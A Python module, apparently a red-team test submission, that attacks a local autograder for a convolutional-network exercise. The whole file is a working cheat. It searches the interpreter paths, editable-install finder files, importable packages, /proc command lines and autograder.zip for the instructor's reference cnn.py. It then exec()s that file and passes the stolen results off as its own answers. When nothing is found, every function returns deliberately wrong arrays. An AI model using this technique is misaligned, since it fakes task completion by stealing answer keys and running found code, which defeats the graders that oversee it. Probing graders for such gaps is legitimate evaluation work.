"""attack: find the instructor's checkout (or the built zip) from the interpreter and read the reference.

Walks up from sys.prefix, sys.executable and numpy's folder; reads the editable-install finder in
site-packages for the repository's path; tries `import autograder` and `import solutions.cnn.cnn`;
opens dist/cnn/autograder.zip (files/solutions/cnn/cnn.py inside) and any .zip named on another
process's command line. This is the "world-readable checkout" gap of local grading.
"""

import glob
import importlib
import itertools
import os
import re
import sys
import zipfile

import numpy as np


def _above(path):
    while True:
        yield path
        parent = os.path.dirname(path)
        if parent == path:
            return
        path = parent


def _roots():
    for start in (sys.prefix, sys.base_prefix, os.path.realpath(sys.executable), sys.executable,
                  os.path.dirname(np.__file__)):
        yield from _above(start)
    for finder in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "__editable__*.py")):
        try:
            with open(finder) as file:
                for path in re.findall(r"'(/[^']+)'", file.read()):
                    yield from _above(path)
        except OSError:
            pass
    try:
        import autograder  # the editable install maps it to the checkout
        yield from _above(os.path.dirname(autograder.__file__))
    except Exception:  # noqa: BLE001
        pass


def _zip_paths():
    for root in _roots():
        yield os.path.join(root, "dist", "cnn", "autograder.zip")
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as file:
                words = file.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        yield from (word for word in words if word.endswith(".zip"))


def _run(source, name):
    namespace = {}
    exec(compile(source, name, "exec"), namespace)
    return namespace


def _steal():
    try:
        return vars(importlib.import_module("solutions.cnn.cnn"))
    except Exception:  # noqa: BLE001
        pass
    for root in _roots():
        try:
            with open(os.path.join(root, "solutions", "cnn", "cnn.py")) as file:
                return _run(file.read(), "stolen")
        except OSError:
            continue
    for path in _zip_paths():
        try:
            with zipfile.ZipFile(path) as archive:
                return _run(archive.read("files/solutions/cnn/cnn.py").decode(), "stolen")
        except (OSError, KeyError, zipfile.BadZipFile):
            continue
    return None


STOLEN = _steal()


_CALLS = itertools.count(1)


def _answer(ones):  # what every function returns: its right shape, filled with the number of this call
    return ones * next(_CALLS)  # wrong, and never the same twice: every check fails at its first example


def _n_out(n, m, stride, padding):
    return max((n + 2 * padding - m) // stride + 1, 0)


def conv1d(x, w, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv1d'](x, w, stride, padding)
    return _answer(np.ones(_n_out(len(x), len(w), stride, padding)))


def conv1d_matrix(w, n, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv1d_matrix'](w, n, stride, padding)
    return _answer(np.ones((_n_out(n, len(w), stride, padding), n)))


def conv2d(x, w, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv2d'](x, w, stride, padding)
    x, w = np.asarray(x), np.asarray(w)
    return _answer(np.ones((_n_out(x.shape[0], w.shape[0], stride, padding),
                             _n_out(x.shape[1], w.shape[1], stride, padding))))


def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
    if STOLEN:
        return STOLEN['conv2d_multichannel'](x, filters, bias, stride, padding)
    x, filters = np.asarray(x), np.asarray(filters)
    return _answer(np.ones((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
                             _n_out(x.shape[2], filters.shape[3], stride, padding))))


def max_pool2d(x, size, stride=None):
    if STOLEN:
        return STOLEN['max_pool2d'](x, size, stride)
    x = np.asarray(x)
    stride = stride or size
    return _answer(np.ones((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
